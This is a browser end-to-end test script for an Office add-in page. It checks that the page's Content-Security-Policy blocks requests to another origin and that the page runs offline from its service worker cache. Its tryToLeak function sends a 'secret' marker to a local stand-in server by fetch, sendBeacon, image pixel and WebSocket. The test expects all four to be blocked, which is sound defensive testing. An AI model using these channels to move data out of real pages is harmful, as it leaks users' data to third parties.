#!/usr/bin/env node
/**
 * Browser test of the page's guarantees, in Debian's Chromium (playwright-core):
 *
 *   node scripts/e2e-security.js      (part of `npm run test:e2e`; builds dist/ if it is missing)
 *
 * 1. No leak: dist/ is served on one local origin, and a second local server on another origin
 *    stands ready to answer anything (with CORS open). From inside the page, fetch(), an image,
 *    sendBeacon and a WebSocket to that other origin must all be stopped by the page's
 *    Content-Security-Policy (a `securitypolicyviolation` event for each) and the other server
 *    must receive no request at all. A whole run of the demo workbook raises no violation.
 * 2. Offline: once the page has been opened, its service worker has it cached; with the browser
 *    offline, the page reloads, goes standalone and runs the demo workbook.
 * Exits 1 with a message on the first failure.
 */
"use strict";

const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");
const http = require("node:http");
const { spawnSync } = require("node:child_process");
const { serveStatic } = require("./static-server");

const ROOT = path.resolve(__dirname, "..");
const DIST = path.join(ROOT, "dist");
const DEMO = path.join(ROOT, "examples", "demo.xlsx");
const CHROMIUM = process.env.CHROMIUM_PATH || "/usr/bin/chromium";
const RUN_TIMEOUT_MS = 180_000; // a slow, shared CI machine: generous on purpose

class E2eFailure extends Error {}
function check(cond, message) {
  if (!cond) throw new E2eFailure(message);
}
function log(msg) {
  process.stdout.write(`e2e-security: ${msg}\n`);
}

function ensureBuild() {
  if (fs.existsSync(path.join(DIST, "taskpane.html")) && fs.existsSync(path.join(DIST, "sw.js"))) return;
  log("building (webpack --mode production)…");
  const r = spawnSync("npx", ["webpack", "--mode", "production"], { cwd: ROOT, encoding: "utf8" });
  if (r.status !== 0) {
    process.stderr.write(r.stdout + r.stderr);
    throw new E2eFailure("the production build failed");
  }
}

/** dist/ as any HTTPS static host would serve it: no special headers (the pages carry their policy). */
const serveDist = () => serveStatic(DIST);

/** The "outside world": answers every request and counts it. */
function serveOutside(received) {
  const server = http.createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/plain" }).end("leaked");
  });
  server.on("upgrade", (req, socket) => {
    received.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  return listen(server);
}

function listen(server) {
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(server)));
}

async function waitStandalone(page) {
  await page.getByLabel(/工作簿|Workbook/).waitFor({ state: "attached", timeout: 30_000 }).catch(() => {
    throw new E2eFailure("the page did not show the standalone file picker");
  });
}

async function runDemo(page, what) {
  await page.getByLabel(/工作簿|Workbook/).setInputFiles(DEMO);
  await page.getByRole("button", { name: /^(运行|Run)$/ }).click();
  await page
    .waitForFunction(() => /完成|Done/.test(document.querySelector('[data-testid="run-status"]')?.textContent ?? ""), null, { timeout: RUN_TIMEOUT_MS })
    .catch(async () => {
      const alert = await page.getByRole("alert").textContent().catch(() => null);
      throw new E2eFailure(`${what}: the demo run did not finish${alert ? ` (${alert})` : ""}`);
    });
}

/** Tries every way out of the page towards `target`; returns what the page saw. */
function tryToLeak(target) {
  const attempts = {};
  const wait = (ms) => new Promise((r) => setTimeout(r, ms));
  return (async () => {
    try {
      await fetch(`${target}/fetch?data=secret`, { mode: "cors" });
      attempts.fetch = "sent";
    } catch (e) {
      attempts.fetch = `blocked: ${e.name}`;
    }
    attempts.beacon = navigator.sendBeacon(`${target}/beacon`, "secret") ? "queued" : "refused";
    await new Promise((resolve) => {
      const img = new Image();
      img.onload = () => ((attempts.image = "loaded"), resolve());
      img.onerror = () => ((attempts.image = "blocked"), resolve());
      img.src = `${target}/pixel.png?data=secret`;
    });
    try {
      const ws = new WebSocket(target.replace(/^http/, "ws") + "/socket");
      attempts.websocket = "opened";
      ws.close();
    } catch (e) {
      attempts.websocket = `blocked: ${e.name}`;
    }
    await wait(500);
    return attempts;
  })();
}

async function main() {
  check(fs.existsSync(CHROMIUM), `Chromium not found at ${CHROMIUM} (apt-get install -y chromium)`);
  check(fs.existsSync(DEMO), "examples/demo.xlsx is missing (npm run make-demo)");
  ensureBuild();
  const received = [];
  const site = await serveDist();
  const outside = await serveOutside(received);
  const origin = `http://127.0.0.1:${site.address().port}`;
  // Another port is another origin: exactly what connect-src 'self' must refuse.
  const target = `http://127.0.0.1:${outside.address().port}`;
  const { chromium } = require("playwright-core");
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), "tierplan-e2e-sec-"));
  let context;
  try {
    context = await chromium.launchPersistentContext(profile, {
      executablePath: CHROMIUM,
      headless: true,
      args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"],
      viewport: { width: 400, height: 900 },
      locale: "zh-CN",
    });
    // office.js's CDN is unreachable here; refuse it at once instead of waiting on DNS.
    await context.route("https://appsforoffice.microsoft.com/**", (route) => route.abort("blockedbyclient"));
    const page = context.pages()[0] ?? (await context.newPage());
    const pageErrors = [];
    page.on("pageerror", (e) => pageErrors.push(String(e)));
    await page.addInitScript(() => {
      window.__cspViolations = [];
      document.addEventListener("securitypolicyviolation", (e) => window.__cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
    });

    // 1. No leak.
    await page.goto(`${origin}/taskpane.html`);
    await waitStandalone(page);
    const attempts = await page.evaluate(tryToLeak, target);
    const violations = await page.evaluate(() => window.__cspViolations);
    log(`attempts from the page: ${JSON.stringify(attempts)}`);
    log(`CSP violations: ${JSON.stringify(violations)}`);
    check(received.length === 0, `the other origin received requests: ${received.join(", ")}`);
    check(/^blocked/.test(attempts.fetch), `fetch() to another origin was not blocked (${attempts.fetch})`);
    check(attempts.image === "blocked", "an image from another origin was not blocked");
    const stopped = (directive, start) => violations.some((v) => v.directive === directive && v.blocked.startsWith(start));
    check(stopped("connect-src", `${target}/fetch`), "no connect-src violation was reported for fetch()");
    check(stopped("connect-src", `${target}/beacon`), "no connect-src violation was reported for sendBeacon()");
    check(stopped("connect-src", target.replace(/^http/, "ws")), "no connect-src violation was reported for the WebSocket");
    check(stopped("img-src", target), "no img-src violation was reported for the image");

    await runDemo(page, "online");
    const afterRun = await page.evaluate(() => window.__cspViolations.filter((v) => v.directive !== "connect-src" && v.directive !== "img-src"));
    check(afterRun.length === 0, `the demo run broke the page's own policy: ${JSON.stringify(afterRun)}`);
    check(received.length === 0, `the other origin received requests during the run: ${received.join(", ")}`);
    log("the demo ran under the policy; nothing reached the other origin");

    // 2. Offline.
    const controlled = await page
      .waitForFunction(() => navigator.serviceWorker && navigator.serviceWorker.controller !== null, null, { timeout: 30_000 })
      .then(() => true)
      .catch(() => false);
    if (!controlled) await page.reload(); // first visit: the worker takes control at the next load at the latest
    await page.evaluate(() => navigator.serviceWorker.ready);
    await context.setOffline(true);
    await page.reload();
    await waitStandalone(page);
    await runDemo(page, "offline");
    log("offline: the page reloaded from its cache and ran the demo");
    check(pageErrors.length === 0, `the page threw: ${pageErrors.join("; ")}`);
    log("PASS");
  } finally {
    if (context) await context.close().catch(() => undefined);
    site.close();
    outside.close();
    fs.rmSync(profile, { recursive: true, force: true });
  }
}

main().catch((e) => {
  process.stderr.write(`e2e-security: FAIL: ${e instanceof E2eFailure ? e.message : e && e.stack ? e.stack : e}\n`);
  process.exit(1);
});
